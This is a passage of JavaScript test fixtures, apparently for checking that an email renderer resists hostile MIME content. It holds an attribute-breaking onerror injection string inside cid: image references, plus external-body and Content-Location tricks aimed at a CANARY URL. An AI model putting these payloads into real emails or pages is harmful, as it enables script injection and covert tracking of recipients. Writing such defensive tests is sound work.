      htmlPart(fill(`<p>${GREETING}</p><img src='cid:"onerror="RUN' alt='"onerror="RUN'>`)),
      carried(fill('"onerror="RUN'), 'image/png', Buffer.from('89504E470D0A1A0A', 'hex')),
    ),
  'an image that is elsewhere': (fill) =>
    multipart('related', htmlPart(showing('a')), [
      'Content-Type: message/external-body; access-type=URL; URL="CANARY"',
      'Content-ID: <a>',
      fill('Content-Location: CANARY'),
      '',
      '',
    ]),
  'an image by its location': (fill) =>
    multipart(
      'related',
      [
        'Content-Type: text/html',
        fill('Content-Base: CANARY'),
        fill('Content-Location: CANARY'),
        '',
        fill(`<p>${GREETING}</p><img src="CANARY/y.png"><img src="y.png">`),
      ],
      carried('a', 'image/png', 'x', fill('Content-Location: CANARY/y.png')),
    ),
  'cid: where no image may stand': (fill) =>
    multipart(
      'related',
      htmlPart(
        `<p>${GREETING}</p><link rel=stylesheet href="cid:a"><p style="background:url(cid:a)"><a href="cid:a">x</a><object data="cid:a"></object>`,
      ),
      carried('a', 'text/html', fill(ATTACK)),
    ),
};
